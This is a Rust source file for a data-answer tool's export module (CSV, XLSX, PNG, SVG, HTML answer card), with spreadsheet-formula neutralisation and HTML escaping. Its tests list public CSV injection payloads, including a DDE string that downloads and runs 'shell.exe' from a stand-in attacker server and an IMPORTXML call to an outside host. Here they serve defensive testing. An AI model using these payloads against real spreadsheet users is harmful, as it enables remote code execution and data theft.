//! An answer as a file: the table as CSV or XLSX, the chart as PNG or SVG, or the whole answer as
//! a self-contained HTML *answer card* (question, interpretation, chart, the first rows, the code,
//! the data source and when it was read, the cost) that can be e-mailed. The format comes from the
//! file's extension. Files are written to a temporary name beside the target and renamed, so a
//! failed export never leaves half a file where the person asked for one.
//!
//! Exports are safe to open: a text cell that a spreadsheet would read as a formula (it starts
//! with `=`, `+`, `@`, a tab, a carriage return, or `-` not followed by a number) is written
//! with a leading `'` in CSV (OWASP's advice for CSV injection) and always as a string, never a
//! formula, in XLSX.

use std::io::Write;
use std::path::Path;

use chrono::{DateTime, Utc};
use serde_json::Value;

use crate::chart::{self, ChartSpec};
use crate::{Answer, Cost, CostSource, Language};

/// The rows an answer card shows (the total is said below them).
pub const CARD_ROWS: usize = 50;

/// What an export can be.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Xlsx,
    Png,
    Svg,
    /// The answer card.
    Html,
}

impl Format {
    /// The format a file name asks for, by its extension.
    pub fn of_path(path: &Path) -> Result<Self, ExportError> {
        path.extension()
            .and_then(|e| e.to_str())
            .and_then(Self::of_extension)
            .ok_or_else(|| ExportError::UnknownFormat(path.display().to_string()))
    }

    /// The format an extension (any case, without the dot) names.
    pub fn of_extension(ext: &str) -> Option<Self> {
        Some(match ext.to_ascii_lowercase().as_str() {
            "csv" => Self::Csv,
            "xlsx" => Self::Xlsx,
            "png" => Self::Png,
            "svg" => Self::Svg,
            "html" | "htm" => Self::Html,
            _ => return None,
        })
    }

    pub fn extension(self) -> &'static str {
        match self {
            Self::Csv => "csv",
            Self::Xlsx => "xlsx",
            Self::Png => "png",
            Self::Svg => "svg",
            Self::Html => "html",
        }
    }
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("{0} has no extension Plainsight can export to; use .csv, .xlsx, .png, .svg or .html (answer card)")]
    UnknownFormat(String),
    #[error("this answer has no chart to export; export the table as .csv or .xlsx instead")]
    NoChart,
    #[error("this answer has no table to export")]
    NoTable,
    #[error("the chart could not be drawn: {0}")]
    Chart(#[from] chart::ChartError),
    #[error("the spreadsheet could not be made: {0}")]
    Xlsx(String),
    #[error("could not write {path}: {source}")]
    Write {
        path: String,
        #[source]
        source: std::io::Error,
    },
}

/// Everything an export may show, borrowed from an answer (or from a plain SQL run).
#[derive(Debug, Clone)]
pub struct Report<'a> {
    pub question: &'a str,
    pub interpretation: &'a str,
    pub language: Option<Language>,
    pub code: Option<&'a str>,
    pub columns: &'a [String],
    pub rows: &'a [Vec<Value>],
    /// The rows are the first of more.
    pub truncated: bool,
    pub chart: Option<&'a ChartSpec>,
    pub cost: Option<&'a Cost>,
    /// `planner`, or the AI as `provider/model`.
    pub generated_by: &'a str,
    /// The data source, as shown to the person (a file path or a URL without password).
    pub source: &'a str,
    /// When the data was read.
    pub read_at: DateTime<Utc>,
}

impl<'a> Report<'a> {
    pub fn of_answer(answer: &'a Answer, source: &'a str, read_at: DateTime<Utc>) -> Self {
        Self {
            question: &answer.question,
            interpretation: &answer.interpretation,
            language: answer.language,
            code: answer.code.as_deref(),
            columns: &answer.columns,
            rows: &answer.rows,
            truncated: answer.truncated,
            chart: answer.chart.as_ref(),
            cost: Some(&answer.cost),
            generated_by: &answer.generated_by,
            source,
            read_at,
        }
    }
}

/// Whether `report` can be exported as `format`: a chart needs a chart, a table a table.
pub fn check(report: &Report<'_>, format: Format) -> Result<(), ExportError> {
    match format {
        Format::Png | Format::Svg if report.chart.is_none() => Err(ExportError::NoChart),
        Format::Csv | Format::Xlsx if report.columns.is_empty() => Err(ExportError::NoTable),
        _ => Ok(()),
    }
}

/// The export as bytes.
pub fn render(report: &Report<'_>, format: Format) -> Result<Vec<u8>, ExportError> {
    check(report, format)?;
    match format {
        Format::Csv => Ok(csv(report.columns, report.rows)),
        Format::Xlsx => xlsx(report.columns, report.rows),
        Format::Png => {
            let spec = report.chart.ok_or(ExportError::NoChart)?;
            Ok(chart::render_png(
                spec,
                report.columns,
                report.rows,
                chart::PNG_EXPORT_SIZE,
            )?)
        }
        Format::Svg => {
            let spec = report.chart.ok_or(ExportError::NoChart)?;
            Ok(
                chart::render_svg(spec, report.columns, report.rows, chart::SVG_EXPORT_SIZE)?
                    .into_bytes(),
            )
        }
        Format::Html => Ok(answer_card(report).into_bytes()),
    }
}

/// Writes the export to `path` (format from its extension), through a temporary file beside it.
pub fn write(report: &Report<'_>, path: &Path) -> Result<Format, ExportError> {
    let format = Format::of_path(path)?;
    let bytes = render(report, format)?;
    let failed = |source| ExportError::Write {
        path: path.display().to_string(),
        source,
    };
    let dir = path
        .parent()
        .filter(|p| !p.as_os_str().is_empty())
        .unwrap_or(Path::new("."));
    // Readable like any file the person saves (a temporary file is private by default).
    let mut builder = tempfile::Builder::new();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        builder.permissions(std::fs::Permissions::from_mode(0o644));
    }
    let mut tmp = builder
        .prefix(".plainsight-export")
        .tempfile_in(dir)
        .map_err(failed)?;
    tmp.write_all(&bytes).map_err(failed)?;
    tmp.persist(path).map_err(|e| failed(e.error))?;
    Ok(format)
}

/// Whether a spreadsheet would read `text` as a formula (or a command): it starts with `=`,
/// `+`, `@` (or their full-width forms), a tab or a carriage return, or with a minus or dash
/// not followed by a number.
pub fn looks_like_formula(text: &str) -> bool {
    let mut chars = text.chars();
    match chars.next() {
        // The full-width forms too: some spreadsheets and input methods read them as the ASCII
        // ones.
        Some('=' | '+' | '@' | '\t' | '\r' | '＝' | '＋' | '＠') => true,
        // Dashes a word processor puts in place of a hyphen-minus (PayloadsAllTheThings lists
        // the en dash as a formula start): a formula unless a number follows.
        Some('-' | '–' | '−' | '－') => {
            let rest = chars.as_str();
            rest.parse::<f64>().map_or(true, |n| !n.is_finite())
        }
        _ => false,
    }
}

/// A text cell as CSV writes it: neutralised with a leading `'` when it looks like a formula.
pub fn safe_text(text: &str) -> std::borrow::Cow<'_, str> {
    if looks_like_formula(text) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// The table as CSV: UTF-8, one header line, one record per row, `\n` line ends, nothing else.
pub fn csv(columns: &[String], rows: &[Vec<Value>]) -> Vec<u8> {
    let mut out = csv::WriterBuilder::new()
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(Vec::new());
    // Writing to memory cannot fail; a record that could not be written is left out.
    let _ = out.write_record(columns.iter().map(|c| safe_text(c).into_owned()));
    for row in rows {
        let _ = out.write_record(row.iter().map(cell_text));
    }
    out.into_inner().unwrap_or_default()
}

fn cell_text(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::Bool(b) => b.to_string(),
        Value::Number(n) => n.to_string(),
        Value::String(s) => safe_text(s).into_owned(),
        other => safe_text(&other.to_string()).into_owned(),
    }
}

/// The table as an XLSX workbook: a bold header row, numbers as numbers, every text as a
/// string (never a formula), columns fitted to their contents.
pub fn xlsx(columns: &[String], rows: &[Vec<Value>]) -> Result<Vec<u8>, ExportError> {
    use rust_xlsxwriter::{Format as Style, Workbook};
    let fail = |e: rust_xlsxwriter::XlsxError| ExportError::Xlsx(e.to_string());
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name("Answer").map_err(fail)?;
    let bold = Style::new().set_bold();
    for (c, name) in columns.iter().enumerate() {
        let c = u16::try_from(c).map_err(|_| ExportError::Xlsx("too many columns".into()))?;
        sheet
            .write_string_with_format(0, c, name, &bold)
            .map_err(fail)?;
    }
    for (r, row) in rows.iter().enumerate() {
        let r = u32::try_from(r + 1).map_err(|_| ExportError::Xlsx("too many rows".into()))?;
        for (c, value) in row.iter().enumerate() {
            let c = u16::try_from(c).map_err(|_| ExportError::Xlsx("too many columns".into()))?;
            match value {
                Value::Null => {}
                Value::Number(n) => match n.as_f64().filter(|f| f.is_finite()) {
                    Some(f) => {
                        sheet.write_number(r, c, f).map_err(fail)?;
                    }
                    None => {
                        sheet.write_string(r, c, n.to_string()).map_err(fail)?;
                    }
                },
                Value::Bool(b) => {
                    sheet.write_boolean(r, c, *b).map_err(fail)?;
                }
                Value::String(s) => {
                    sheet.write_string(r, c, s).map_err(fail)?;
                }
                other => {
                    sheet.write_string(r, c, other.to_string()).map_err(fail)?;
                }
            }
        }
    }
    sheet.autofit();
    book.save_to_buffer().map_err(fail)
}

/// Text made safe as HTML element content (the card puts no text in attributes): quotes stay
/// as they are, so the question reads back word for word.
fn esc(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            c => out.push(c),
        }
    }
    out
}

fn cost_line(cost: Option<&Cost>, generated_by: &str) -> String {
    match cost {
        Some(c) if c.total_nanos > 0 => {
            let how = match c.source {
                CostSource::Provider => "as billed by the provider",
                CostSource::Estimate => "estimated",
                CostSource::None => "",
            };
            format!(
                "${:.4} ({generated_by}{}{how})",
                crate::money::dollars(c.total_nanos),
                if how.is_empty() { "" } else { ", " }
            )
        }
        _ if generated_by == "planner" => "Nothing: answered on this computer".into(),
        _ => "Nothing".into(),
    }
}

/// The answer card: one self-contained HTML file (styles inline, the chart as inline SVG, no
/// script and no network reference).
pub fn answer_card(report: &Report<'_>) -> String {
    let chart = report.chart.and_then(|spec| {
        chart::render_svg(spec, report.columns, report.rows, chart::SVG_EXPORT_SIZE)
            .ok()
            // Inline SVG needs no namespace; leaving it out keeps the file free of URLs.
            .map(|svg| svg.replacen(" xmlns=\"http://www.w3.org/2000/svg\"", "", 1))
    });
    let mut html = String::new();
    html.push_str("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n");
    html.push_str("<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n");
    html.push_str(&format!(
        "<title>{}</title>\n",
        esc(&format!("Plainsight: {}", report.question))
    ));
    html.push_str(concat!(
        "<style>\n",
        "body{font-family:system-ui,-apple-system,'Segoe UI',sans-serif;color:#1f2933;max-width:960px;margin:2rem auto;padding:0 1rem;line-height:1.45}\n",
        "h1{font-size:1.4rem;margin:0 0 .3rem}\n",
        ".interpretation{color:#52606d;margin:0 0 1.2rem}\n",
        "figure{margin:0 0 1.2rem}figure svg{width:100%;height:auto}\n",
        "table{border-collapse:collapse;width:100%;font-size:.9rem;margin-bottom:.4rem}\n",
        "th,td{border-bottom:1px solid #d9e2ec;padding:.3rem .5rem;text-align:left}\n",
        "td.num{text-align:right;font-variant-numeric:tabular-nums}\n",
        "th{background:#f0f4f8}\n",
        ".total{color:#52606d;font-size:.85rem;margin:0 0 1.2rem}\n",
        "pre{background:#f0f4f8;padding:.8rem;overflow-x:auto;font-size:.85rem;white-space:pre-wrap}\n",
        "dl{display:grid;grid-template-columns:max-content 1fr;gap:.2rem 1rem;font-size:.9rem}dt{color:#52606d}dd{margin:0}\n",
        "</style>\n</head>\n<body>\n",
    ));
    html.push_str(&format!(
        "<h1 id=\"question\">{}</h1>\n",
        esc(report.question)
    ));
    if !report.interpretation.is_empty() {
        html.push_str(&format!(
            "<p class=\"interpretation\">{}</p>\n",
            esc(report.interpretation)
        ));
    }
    if let Some(svg) = chart {
        html.push_str(&format!("<figure id=\"chart\">{svg}</figure>\n"));
    }
    if !report.columns.is_empty() {
        html.push_str("<table id=\"table\">\n<thead><tr>");
        for c in report.columns {
            html.push_str(&format!("<th>{}</th>", esc(c)));
        }
        html.push_str("</tr></thead>\n<tbody>\n");
        for row in report.rows.iter().take(CARD_ROWS) {
            html.push_str("<tr>");
            for v in row {
                match v {
                    Value::Number(n) => html.push_str(&format!(
                        "<td class=\"num\">{}</td>",
                        n.as_f64()
                            .map_or_else(|| n.to_string(), chart::format_number)
                    )),
                    Value::Null => html.push_str("<td></td>"),
                    Value::String(s) => html.push_str(&format!("<td>{}</td>", esc(s))),
                    other => html.push_str(&format!("<td>{}</td>", esc(&other.to_string()))),
                }
            }
            html.push_str("</tr>\n");
        }
        html.push_str("</tbody>\n</table>\n");
        let n = report.rows.len();
        let total = match (n > CARD_ROWS, report.truncated) {
            (true, false) => format!("The first {CARD_ROWS} of {n} rows."),
            (true, true) => format!("The first {CARD_ROWS} of more than {n} rows."),
            (false, true) => format!("{n} rows shown; the result had more."),
            (false, false) if n == 1 => "1 row.".to_string(),
            (false, false) => format!("{n} rows."),
        };
        html.push_str(&format!("<p class=\"total\" id=\"total\">{total}</p>\n"));
    }
    if let Some(code) = report.code {
        let language = match report.language {
            Some(Language::Python) => "Python",
            _ => "SQL",
        };
        html.push_str(&format!(
            "<h2 style=\"font-size:1rem\">{language}</h2>\n<pre id=\"code\"><code>{}</code></pre>\n",
            esc(code)
        ));
    }
    html.push_str("<dl id=\"facts\">\n");
    html.push_str(&format!(
        "<dt>Data source</dt><dd>{}</dd>\n",
        esc(report.source)
    ));
    html.push_str(&format!(
        "<dt>Data read</dt><dd>{}</dd>\n",
        esc(&crate::clock::shown(&crate::clock::stamp(report.read_at)))
    ));
    html.push_str(&format!(
        "<dt>Written by</dt><dd>{}</dd>\n",
        esc(if report.generated_by == "planner" {
            "Plainsight's offline planner"
        } else {
            report.generated_by
        })
    ));
    html.push_str(&format!(
        "<dt>Cost</dt><dd>{}</dd>\n",
        esc(&cost_line(report.cost, report.generated_by))
    ));
    html.push_str("</dl>\n<p class=\"total\">Made with Plainsight.</p>\n</body>\n</html>\n");
    html
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn formulas_are_recognised_as_owasp_lists_them() {
        for text in [
            "=1+1",
            "=HYPERLINK(\"http://x\")",
            "+1",
            "+SUM(A1)",
            "@SUM(A1)",
            "-",
            "-A1",
            "-2+3+cmd|' /C calc'!A0",
            "\tx",
            "\rx",
        ] {
            assert!(looks_like_formula(text), "{text:?}");
        }
        for text in ["", "North", "-5", "-3.25", "5-3", "a=b", "1e3", "-1e3"] {
            assert!(!looks_like_formula(text), "{text:?}");
        }
    }

    /// The payloads of PayloadsAllTheThings' "CSV Injection" page, each neutralised.
    #[test]
    fn the_public_csv_injection_payloads_are_all_neutralised() {
        for payload in [
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=2+5+cmd|' /C calc'!A0",
            "=cmd|' /C calc'!'A1'",
            "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
            "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
            "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
            "=         cmd|'/c calc.exe'!A",
            "=rundll32|'URL.dll,OpenURL calc.exe'!A",
            "=    C    m D                    |        '/        c       c  al  c      .  e                  x       e  '   !   A",
            "=IMPORTXML(\"http://burp.collaborator.net/csv\", \"//a/@href\")",
            "–cmd|' /C calc'!A0",
            "＝1+1",
        ] {
            assert!(looks_like_formula(payload), "{payload:?}");
            assert!(safe_text(payload).starts_with('\''), "{payload:?}");
        }
        assert!(
            !looks_like_formula("–5"),
            "a dash before a number is a negative number"
        );
    }

    #[test]
    fn csv_is_one_header_and_one_line_per_row_and_neutralises_formulas() {
        let columns = vec!["region".to_string(), "revenue".to_string()];
        let rows = vec![
            vec![json!("North"), json!(1200.5)],
            vec![json!("=cmd|' /C calc'!A0"), json!(-3)],
            vec![json!("a, \"quoted\" name"), Value::Null],
            vec![json!("-7"), json!(true)],
        ];
        let text = String::from_utf8(csv(&columns, &rows)).unwrap();
        assert_eq!(
            text,
            "region,revenue\nNorth,1200.5\n'=cmd|' /C calc'!A0,-3\n\"a, \"\"quoted\"\" name\",\n-7,true\n"
        );
        let read: Vec<csv::StringRecord> = csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(Result::unwrap)
            .collect();
        assert_eq!(read.len(), rows.len());
    }

    #[test]
    fn xlsx_keeps_numbers_as_numbers_and_every_text_as_text() {
        use calamine::{Data, Reader, Xlsx};
        let columns = vec!["name".to_string(), "amount".to_string()];
        let rows = vec![
            vec![json!("=1+1"), json!(12.5)],
            vec![json!("@SUM(A1)"), json!(7)],
            vec![Value::Null, json!(true)],
        ];
        let bytes = xlsx(&columns, &rows).unwrap();
        let mut book = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
        assert_eq!(book.sheet_names(), ["Answer"]);
        let range = book.worksheet_range("Answer").unwrap();
        assert_eq!(range.get((0, 0)), Some(&Data::String("name".into())));
        assert_eq!(range.get((1, 0)), Some(&Data::String("=1+1".into())));
        assert_eq!(range.get((1, 1)), Some(&Data::Float(12.5)));
        assert_eq!(range.get((2, 0)), Some(&Data::String("@SUM(A1)".into())));
        assert_eq!(range.get((3, 1)), Some(&Data::Bool(true)));
        let formulas = book.worksheet_formula("Answer").unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "no cell is a formula"
        );
    }

    #[test]
    fn the_card_escapes_markup_and_keeps_the_question_word_for_word() {
        let columns = vec!["name".to_string()];
        let rows = vec![vec![json!("<script>alert(1)</script>")]];
        let report = Report {
            question: "last month's \"top\" names & more",
            interpretation: "",
            language: Some(Language::Sql),
            code: Some("SELECT name FROM t WHERE a < 3"),
            columns: &columns,
            rows: &rows,
            truncated: false,
            chart: None,
            cost: None,
            generated_by: "planner",
            source: "/data/shop.sqlite",
            read_at: Utc::now(),
        };
        let card = answer_card(&report);
        assert!(
            card.contains("last month's \"top\" names &amp; more"),
            "{card}"
        );
        assert!(!card.contains("<script>") && card.contains("&lt;script&gt;"));
        assert!(card.contains("WHERE a &lt; 3"));
        assert!(card.contains("Nothing: answered on this computer"));
    }

    #[test]
    fn formats_come_from_the_extension() {
        for (name, format) in [
            ("a.csv", Format::Csv),
            ("a.XLSX", Format::Xlsx),
            ("dir/a.png", Format::Png),
            ("a.svg", Format::Svg),
            ("card.html", Format::Html),
        ] {
            assert_eq!(Format::of_path(Path::new(name)).unwrap(), format);
        }
        let err = Format::of_path(Path::new("a.pdf")).unwrap_err();
        assert!(err.to_string().contains(".csv, .xlsx"), "{err}");
    }
}
